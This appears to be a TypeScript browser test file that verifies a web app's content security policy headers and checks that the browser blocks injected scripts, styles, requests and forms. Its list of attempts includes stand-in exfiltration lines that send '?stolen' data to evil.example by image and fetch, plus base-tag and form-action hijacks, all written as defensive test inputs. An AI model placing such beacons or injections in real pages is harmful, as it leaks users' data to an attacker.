import { expect, it } from 'vitest'
import { describePages, newOwner } from './describe-pages.ts'

const PAGE_POLICY =
  "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; font-src 'self'; " +
  "form-action 'self'; base-uri 'none'; frame-ancestors 'none'; object-src 'none'; require-trusted-types-for 'script'"

/** What an injected text could try, and the part of the policy that must stop it. */
const ATTEMPTS = {
  'script-src': `const link = document.createElement('a'); link.href = 'javascript:alert(1)'; document.body.append(link); link.click()`,
  'style-src': `const style = document.createElement('style'); style.textContent = '*{}'; document.head.append(style)`,
  'img-src': `new Image().src = 'https://evil.example/?stolen'`,
  'connect-src': `void fetch('https://evil.example/?stolen').catch(() => {})`,
  'base-uri': `const base = document.createElement('base'); base.href = 'https://evil.example'; document.head.append(base)`,
  'require-trusted-types-for': `try { document.body.innerHTML = '<b>x</b>' } catch {}`,
  'form-action': `const form = document.createElement('form'); form.action = 'https://evil.example'; document.body.append(form); form.submit()`,
}

describePages('content security policy', (app, open) => {
  it('every page and file of the interface is served with exactly this policy', async () => {
    const { person, workspaceId } = await newOwner(app())
    const page = await open(app().url, { person })
    const policies = new Map<string, string | undefined>()
    page.on('response', (response) => {
      const { pathname } = new URL(response.url())
      if (!pathname.startsWith('/api/')) policies.set(pathname, response.headers()['content-security-policy'])
    })
    const paths = [
      '/',
      '/sign-up',
      '/forgot-password',
      '/docs',
      '/device',
      '/setup',
      '/invite',
      '/no/such/page',
      `/a/${workspaceId}/components`,
    ]
    for (const path of paths) await page.goto(path)
    expect(policies.size).toBeGreaterThan(paths.length)
    expect(Object.fromEntries([...policies].filter(([, policy]) => policy !== PAGE_POLICY))).toEqual({})
  })

  it('a response of the API, opened as a page, may load and run nothing', async () => {
    const answer = await app().anonymous.get('/instance')
    expect(answer.headers.get('content-security-policy')).toBe("default-src 'none'; frame-ancestors 'none'")
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
  })

  it('the browser blocks scripts, styles, requests and forms that the content security policy does not allow', async () => {
    const page = await open(app().url, { complaints: [/^console /, /^request to a foreign origin: .*\?stolen$/] })
    await page.goto('/sign-in')
    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
    const rejections: string[] = []
    page.on('console', (message) => {
      const [, directive] = /^content policy: ([a-z]+(-[a-z]+)*?)(-elem|-attr)? /.exec(message.text()) ?? []
      if (directive) rejections.push(directive)
    })
    for (const attempt of Object.values(ATTEMPTS)) await page.evaluate(attempt)
    await expect.poll(() => rejections).toEqual(expect.arrayContaining(Object.keys(ATTEMPTS)))
  })
})
